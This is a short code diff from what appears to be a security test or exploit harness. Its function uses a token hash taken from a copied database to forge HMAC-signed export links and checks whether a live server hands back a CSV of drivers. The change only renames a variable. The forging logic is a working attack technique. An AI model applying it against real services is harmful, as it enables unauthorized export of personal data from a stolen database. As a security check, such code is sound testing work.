@@ -25,10 +25,10 @@ async function copyOfTheDatabase(target: Target) {
   const [row] = rows;
   const ends = Buffer.alloc(4);
   ends.writeUInt32BE(Math.floor(Date.now() / 1_000) + 290);
-  const said = Buffer.concat([parse(row.organization_id), parse(row.id), ends]);
+  const payload = Buffer.concat([parse(row.organization_id), parse(row.id), ends]);
   const address = '/api/drivers/export?format=csv';
-  const signature = createHmac('sha256', row.token_hash).update(address).update('\0').update(said).digest();
-  const link = Buffer.concat([said, signature.subarray(0, 16)]).toString('base64url');
+  const signature = createHmac('sha256', row.token_hash).update(address).update('\0').update(payload).digest();
+  const link = Buffer.concat([payload, signature.subarray(0, 16)]).toString('base64url');
   const { status, text } = await target.ask('GET', `${address}&link=${link}`);
   const live = text.includes('Entró Después');
   return { answer: `${status}${live ? ', with a driver of after the copy' : ''}`, works: status === 200 };
